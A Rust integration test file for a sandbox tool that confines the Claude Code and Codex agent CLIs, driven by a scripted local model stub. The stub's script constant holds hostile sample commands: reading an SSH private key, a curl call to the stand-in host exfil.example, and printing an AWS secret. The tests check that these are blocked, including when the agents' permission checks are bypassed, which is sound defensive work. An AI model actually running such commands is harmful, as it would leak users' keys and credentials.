//! The real Claude Code and Codex CLIs, confined by `skillsandbox hook`: only the
//! model API is a local stub (tests/agents/model_stub.py) that scripts four shell
//! tool calls — read a canary key, exfiltrate with curl, write in the project, read a
//! secret variable — and records what each CLI sends back as their results.
//!
//! The CLIs are pinned in .ci/run (npm, into /opt/skillsandbox-ci/npm); elsewhere
//! point SKILLSANDBOX_CLAUDE_BIN / SKILLSANDBOX_CODEX_BIN at them. Without them the
//! tests skip, and fail under SKILLSANDBOX_TEST_REQUIRE=full.

// Test helpers outside `#[test]` functions panic on setup failure by design.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::common::{require_full, skillsandbox};

const CANARY: &str = "CANARY-agent-ssh-key-51ab";
const SECRET: &str = "CANARY-agent-aws-secret-9c0e";
const SCRIPT: &str = r#"["cat ~/.ssh/id_ed25519", "curl -s --max-time 5 https://exfil.example/", "echo ok > ./built.txt", "printenv AWS_SECRET_ACCESS_KEY"]"#;
const NPM: &str = "/opt/skillsandbox-ci/npm/node_modules";

fn agent_bin(var: &str, default: &str) -> Option<PathBuf> {
    let p = std::env::var_os(var).map_or_else(|| Path::new(NPM).join(default), PathBuf::from);
    if p.is_file() {
        return Some(p);
    }
    let why = format!(
        "{} not found (set {var}, or run .ci/run's npm install)",
        p.display()
    );
    assert!(!require_full(), "SKILLSANDBOX_TEST_REQUIRE=full: {why}");
    eprintln!("skipped: {why}");
    None
}

struct Stub {
    child: Child,
    port: u16,
    record: PathBuf,
}

impl Stub {
    fn start(flavour: &str, dir: &Path) -> Stub {
        let script = dir.join("script.json");
        std::fs::write(&script, SCRIPT).unwrap();
        let record = dir.join("record.json");
        let stub = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../tests/agents/model_stub.py"
        );
        let mut child = Command::new("python3")
            .args([stub, flavour])
            .arg(&script)
            .arg(&record)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line.trim().parse().unwrap();
        Stub {
            child,
            port,
            record,
        }
    }

    /// The tool results the CLI sent back, in order.
    fn results(&self) -> Vec<String> {
        let v: Value = serde_json::from_slice(&std::fs::read(&self.record).unwrap()).unwrap();
        v["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["content"].as_str().unwrap_or_default().to_owned())
            .collect()
    }
}

impl Drop for Stub {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A project in a throwaway home holding a canary key, with the profile and hook.
struct Setup {
    _tmp: tempfile::TempDir,
    home: PathBuf,
    dir: PathBuf,
    state: PathBuf,
}

impl Setup {
    fn new() -> Setup {
        // Codex refuses a CODEX_HOME under /tmp: keep everything under target/.
        let tmp = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let home = tmp.path().join("home");
        let dir = home.join("proj");
        let state = tmp.path().join("state");
        for d in [home.join(".ssh"), dir.clone(), state.clone()] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(home.join(".ssh/id_ed25519"), CANARY).unwrap();
        std::fs::write(dir.join("package.json"), "{}").unwrap();
        let s = Setup {
            _tmp: tmp,
            home,
            dir,
            state,
        };
        let init = s.env(skillsandbox()).arg("init").output().unwrap();
        assert!(init.status.success(), "{init:?}");
        s
    }

    fn env(&self, mut c: Command) -> Command {
        c.env("HOME", &self.home)
            .env("XDG_STATE_HOME", &self.state)
            .env("XDG_CONFIG_HOME", self.state.join("config"))
            .env("SKILLSANDBOX_SESSION_DB", self.state.join("sessions.db"))
            .env("SKILLSANDBOX_AUDIT_LOG", self.state.join("audit.jsonl"))
            .env("CODEX_HOME", self.home.join(".codex"))
            .env("AWS_SECRET_ACCESS_KEY", SECRET)
            .current_dir(&self.dir);
        c
    }

    fn traces(&self) -> Vec<Value> {
        let dir = self.state.join("skillsandbox/traces");
        std::fs::read_dir(dir)
            .map(|rd| {
                rd.map(|e| {
                    serde_json::from_slice(&std::fs::read(e.unwrap().path()).unwrap()).unwrap()
                })
                .collect()
            })
            .unwrap_or_default()
    }
}

fn run_bounded(mut c: Command, what: &str) -> std::process::Output {
    let mut child = c
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(180);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("{what} did not finish within 180 s");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    child.wait_with_output().unwrap()
}

/// The four results, checked the same way for both agents.
fn check_results(results: &[String], traces: &[Value], ids: &[&str]) {
    assert_eq!(results.len(), 4, "{results:#?}");
    let all = results.join("\n");
    assert!(!all.contains(CANARY), "the canary key leaked: {all}");
    assert!(!all.contains(SECRET), "the secret variable leaked: {all}");
    assert!(
        results[1].contains("blocked: DNS lookup of exfil.example")
            && results[1].contains("- domain: exfil.example"),
        "curl not explained: {}",
        results[1]
    );
    let mut seen: Vec<&str> = traces
        .iter()
        .filter_map(|t| t["tool_call_id"].as_str())
        .collect();
    seen.sort_unstable();
    assert_eq!(seen, ids, "{traces:#?}");
    let session = traces[0]["session_id"].as_str().unwrap();
    assert!(traces.iter().all(|t| t["session_id"] == session));
}

fn claude(bypass: bool) {
    let Some(bin) = agent_bin(
        "SKILLSANDBOX_CLAUDE_BIN",
        "@anthropic-ai/claude-code-linux-x64/claude",
    ) else {
        return;
    };
    let s = Setup::new();
    let install = s
        .env(skillsandbox())
        .args(["hook", "install", "claude-code"])
        .output()
        .unwrap();
    assert!(install.status.success(), "{install:?}");
    let stub = Stub::start("anthropic", s.state.as_path());
    let mut c = s.env(Command::new(bin));
    c.args(["-p", "run the four steps", "--output-format", "json"])
        .env(
            "ANTHROPIC_BASE_URL",
            format!("http://127.0.0.1:{}", stub.port),
        )
        .env("ANTHROPIC_API_KEY", "sk-test-stub")
        .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1")
        .stdin(Stdio::null());
    if bypass {
        c.arg("--dangerously-skip-permissions")
            .env("IS_SANDBOX", "1");
    }
    let out = run_bounded(c, "claude -p");
    assert!(out.status.success(), "{out:?}");
    check_results(
        &stub.results(),
        &s.traces(),
        &[
            "toolu_stub_1",
            "toolu_stub_2",
            "toolu_stub_3",
            "toolu_stub_4",
        ],
    );
    assert_eq!(
        std::fs::read_to_string(s.dir.join("built.txt")).unwrap(),
        "ok\n"
    );
}

#[test]
fn claude_code_shell_is_confined() {
    claude(false);
}

#[test]
fn claude_code_shell_is_confined_with_permissions_skipped() {
    claude(true);
}

#[test]
fn codex_shell_is_confined() {
    codex("danger-full-access");
}

/// With Codex's own sandbox on, the nested `skillsandbox exec` cannot create its
/// namespaces; the command must then not run at all (fail closed), never unconfined.
#[test]
fn codex_shell_with_codex_sandbox_on_fails_closed() {
    codex("workspace-write");
}

fn codex(sandbox_mode: &str) {
    let Some(bin) = agent_bin(
        "SKILLSANDBOX_CODEX_BIN",
        "@openai/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex",
    ) else {
        return;
    };
    let s = Setup::new();
    let install = s
        .env(skillsandbox())
        .args(["hook", "install", "codex", "--user"])
        .output()
        .unwrap();
    assert!(install.status.success(), "{install:?}");
    let stub = Stub::start("openai", s.state.as_path());
    // Codex's own sandbox would block the nested `skillsandbox exec`; with the hook,
    // SkillSandbox is the sandbox (what `hook install codex` tells the user).
    std::fs::write(
        s.home.join(".codex/config.toml"),
        format!(
            "model = \"stub-model\"\nmodel_provider = \"stub\"\napproval_policy = \"never\"\n\
             sandbox_mode = \"{sandbox_mode}\"\n[model_providers.stub]\nname = \"stub\"\n\
             base_url = \"http://127.0.0.1:{}/v1\"\nwire_api = \"responses\"\nenv_key = \"STUB_KEY\"\n",
            stub.port,
        ),
    )
    .unwrap();
    let mut c = s.env(Command::new(bin));
    c.args([
        "exec",
        "--skip-git-repo-check",
        "--dangerously-bypass-hook-trust",
        "run the four steps",
    ])
    .env("STUB_KEY", "stub")
    .stdin(Stdio::null());
    let out = run_bounded(c, "codex exec");
    assert!(out.status.success(), "{out:?}");
    let ids = ["call_stub_1", "call_stub_2", "call_stub_3", "call_stub_4"];
    if sandbox_mode == "danger-full-access" {
        check_results(&stub.results(), &s.traces(), &ids);
        assert_eq!(
            std::fs::read_to_string(s.dir.join("built.txt")).unwrap(),
            "ok\n"
        );
        return;
    }
    let results = stub.results();
    assert_eq!(results.len(), 4, "{results:#?}");
    for r in &results {
        assert!(!r.contains(CANARY) && !r.contains(SECRET), "{r}");
        assert!(
            r.contains("skillsandbox:"),
            "not refused by skillsandbox: {r}"
        );
    }
    assert!(!s.dir.join("built.txt").exists(), "a command ran");
}
